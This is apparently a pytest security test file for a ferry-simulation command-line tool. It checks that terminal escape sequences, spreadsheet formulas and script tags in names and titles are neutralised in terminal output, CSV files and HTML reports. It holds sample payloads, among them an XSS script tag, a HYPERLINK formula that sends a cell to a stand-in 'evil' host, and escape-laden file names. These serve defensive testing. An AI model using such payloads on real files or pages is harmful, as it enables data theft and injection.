"""Names and titles from elsewhere: nothing of them steers a terminal, runs in a spreadsheet or in a
page."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from sim.cli.main import run
from sim.cli.progress import progress
from sim.cli.screen import Screen
from sim.plot.columns import read_table
from sim.spec.messages import STEERING
from sim.study.csv_text import csv_text, without_mark

SCENARIO = """title: "TITLE"
horizon: {days: 20, warmup_days: 2}
places: {kuryk: {}, alat: {}}
vessels: {ferry: {capacity: {wagon: 54}}}
flows: {wagons: {unit: wagon, origin: kuryk, destination: alat, arrivals: {poisson: {per_day: 10}}}}
services: {line: {from: kuryk, to: alat, vessel: ferry, vessels: 4, crossing: 20h}}
"""
SCRIPT = "</script><script>alert(1)</script>"
FORMULA = "=HYPERLINK('//evil/'&A1)"
HOSTILE_NAME = "\x1b]0;owned\x07\x1b[2J\u202e.yaml"


@pytest.fixture(autouse=True)
def folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)


@pytest.mark.parametrize(
    "arguments",
    [
        ["check", HOSTILE_NAME],
        ["check", f"no-{HOSTILE_NAME}"],
        ["check", HOSTILE_NAME, "--set", "demand.\x1b[2J=1"],
        ["check", HOSTILE_NAME, "--\x1b[2J"],
        ["show", HOSTILE_NAME, "--resolved"],
        ["capacity", HOSTILE_NAME],
        [
            "run",
            HOSTILE_NAME,
            "-n",
            "1",
            "--workers",
            "1",
            "--out",
            "o\x1b[2Jut",
            "--json",
            "\x1b.json",
        ],
        ["sweep", HOSTILE_NAME, "--vary", "demand.\x1b[2J=1"],
        ["report", "no\x1b[2J"],
        ["plot", "no\x1b[2J", "map"],
        ["store", "list", "no\x1b[2J"],
        ["\x1b[2J"],
    ],
    ids=lambda arguments: arguments[0] if arguments[0].isprintable() else "none",
)
def test_no_name_steers_the_terminal(arguments, capsys):
    Path(HOSTILE_NAME).write_text(SCENARIO)
    run(arguments)
    printed = capsys.readouterr()
    assert printed.out + printed.err
    assert not STEERING.search(printed.out + printed.err)


def test_no_cell_of_a_table_steers_the_terminal(capsys):
    frame = pd.DataFrame({"a\x1b[2J": ["\x1b[2J", "[/red]"]})
    screen = Screen()
    screen.table(frame, "t\x1b[2J")
    screen.show()
    printed = capsys.readouterr().out
    assert "[/red]" in printed
    assert not STEERING.search(printed)


def test_a_name_in_brackets_is_no_markup_of_the_progress_bar():
    with progress("[/red]", 1) as done:
        done()


def test_text_that_a_spreadsheet_would_run_is_marked_and_numbers_are_not():
    words = ["=1+1", "+x", "-x", "@x", "\tx", "x\r=y", "plain", "-1.5", "-", "'=x", ""]
    frame = pd.DataFrame({"=head": words, "number": range(-5, 6)})
    text = csv_text(frame)
    head, *rows = csv.reader(text.splitlines(keepends=True))
    assert head == ["'=head", "number"]
    marked = ["'=1+1", "'+x", "'-x", "'@x", "'\tx", "x =y", "plain", "-1.5", "-", "'=x", ""]
    assert [row[0] for row in rows] == marked
    assert [row[1] for row in rows] == [str(number) for number in range(-5, 6)]
    assert [without_mark(cell) for cell in marked[:5]] == words[:5]


def test_every_csv_file_is_written_by_the_one_function():
    """`csv_text` alone calls `to_csv`, and nobody has a writer of his own."""
    root = Path(__file__).parents[3] / "sim"
    writers = [
        file.relative_to(root).as_posix()
        for file in sorted(root.rglob("*.py"))
        if re.search(r"\.to_csv\(|csv\.(Dict)?[wW]riter\(", file.read_text(encoding="utf-8"))
    ]
    assert writers == ["study/csv_text.py"]


def test_one_file_prints_the_text_of_commands():
    """It makes it harmless."""
    root = Path(__file__).parents[3] / "sim" / "cli"
    printers = [
        file.name for file in sorted(root.glob("*.py")) if "click.echo(" in file.read_text()
    ]
    assert printers == ["output.py"]


def test_results_of_a_hostile_scenario_hold_no_formula_and_no_script():
    name = f"={FORMULA[1:10]}.yaml"
    Path(name).write_text(SCENARIO.replace("TITLE", FORMULA + SCRIPT))
    options = ["-n", "2", "--workers", "1"]
    assert run(["compare", name, name, *options, "--out", "out"]) == 0
    assert run(["sweep", name, *options, "--vary", "demand.scale=1,2", "--out", "points"]) == 0
    assert run(["report", "out", "--out", "report.html"]) == 0
    assert run(["replay", "out/0-=HYPERLINK", "--out", "replay.html"]) == 0
    cells = 0
    for file in [*Path("out").rglob("*.csv"), *Path("points").rglob("*.csv")]:
        for row in csv.reader(file.read_text().splitlines()):
            cells += len(row)
            assert not [cell for cell in row if cell[:1] in "=+@" and cell[:1]], file
    assert cells > 1000
    for page in ("report.html", "replay.html"):
        assert "<script>alert" not in Path(page).read_text()


def test_a_table_is_read_back_as_it_was(tmp_path):
    frame = pd.DataFrame({"project": ["=x", "hub"], "=path": ["-a", "b"], "value": [1.5, -2]})
    Path("t.csv").write_text(csv_text(frame))
    pd.testing.assert_frame_equal(read_table(tmp_path / "t.csv"), frame, check_dtype=False)
